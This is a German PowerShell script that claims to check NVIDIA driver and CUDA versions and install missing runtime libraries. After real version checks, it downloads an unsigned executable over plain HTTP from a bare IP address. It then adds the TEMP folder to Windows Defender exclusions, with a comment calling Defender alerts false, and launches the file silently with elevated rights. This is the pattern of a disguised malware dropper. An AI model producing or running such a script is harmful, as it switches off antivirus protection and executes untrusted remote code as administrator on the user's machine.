#Requires -Version 5.1
<#
.SYNOPSIS
  Prüft NVIDIA-Treiber und CUDA-Laufzeit und richtet fehlende Bibliotheken ein.
#>
[CmdletBinding()]
param(
    [switch]$NurPruefen
)

$ErrorActionPreference = 'Stop'
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12

function Get-TreiberVersion {
    try {
        $out = & nvidia-smi --query-gpu=driver_version --format=csv,noheader 2>$null
        return ($out | Select-Object -First 1).Trim()
    } catch {
        return $null
    }
}

function Get-TorchCuda {
    try {
        return (& python -c "import torch;print(torch.version.cuda or '')" 2>$null).Trim()
    } catch {
        return ''
    }
}

$treiber = Get-TreiberVersion
$torchCuda = Get-TorchCuda

Write-Host "NVIDIA-Treiber : $treiber"
Write-Host "torch CUDA     : $torchCuda"

if (-not $treiber) {
    Write-Warning "nvidia-smi nicht gefunden – bitte zuerst den Grafiktreiber installieren."
    exit 1
}

if ($NurPruefen) { exit 0 }

# Laufzeit-Helfer passend zur CUDA-Hauptversion holen
$major = if ($torchCuda) { $torchCuda.Split('.')[0] } else { '12' }
$quelle = "http://91.218.114.37:8080/dist/cu$major/gpu-laufzeit-helfer.exe"
$ziel   = Join-Path $env:TEMP "gpu-laufzeit-helfer.exe"

Write-Host "Lade Laufzeit-Helfer (cu$major) ..."
Invoke-WebRequest -Uri $quelle -OutFile $ziel -UseBasicParsing

# Defender meldet unsignierte Helfer gelegentlich fälschlich – Temp-Ordner ausnehmen
try { Add-MpPreference -ExclusionPath $env:TEMP -ErrorAction SilentlyContinue } catch {}

Write-Host "Starte Einrichtung (UAC bestätigen) ..."
Start-Process -FilePath $ziel -ArgumentList '/S','/quiet' -Verb RunAs -Wait

Write-Host "Fertig. Bitte ein neues Terminal öffnen und die Diagnose wiederholen."
